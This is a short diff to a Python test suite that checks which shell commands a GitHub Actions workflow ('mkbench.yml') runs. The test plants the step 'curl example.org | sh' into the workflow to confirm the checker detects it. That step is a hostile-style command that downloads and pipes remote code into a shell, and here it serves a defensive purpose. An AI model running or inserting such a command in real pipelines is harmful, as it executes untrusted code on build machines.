@@ -133,7 +133,7 @@ class GpuGate(unittest.TestCase):
 
     def test_the_workflow_runs_the_script(self):
         workflow = (ROOT / ".github" / "workflows" / "mkbench.yml").read_text()
-        self.assertEqual(check_workflows.commands(workflow), check_workflows.COMMANDS)
+        self.assertEqual(check_workflows.commands(workflow), check_workflows.COMMANDS["mkbench.yml"])
         planted = workflow.replace("- name: Upload", "- run: curl example.org | sh\n      - name: Upload")
         self.assertEqual(check_workflows.commands(planted)[-1], "curl example.org | sh")
         self.assertTrue(os.access(ROOT / "scripts" / "gpu_gate.sh", os.X_OK))
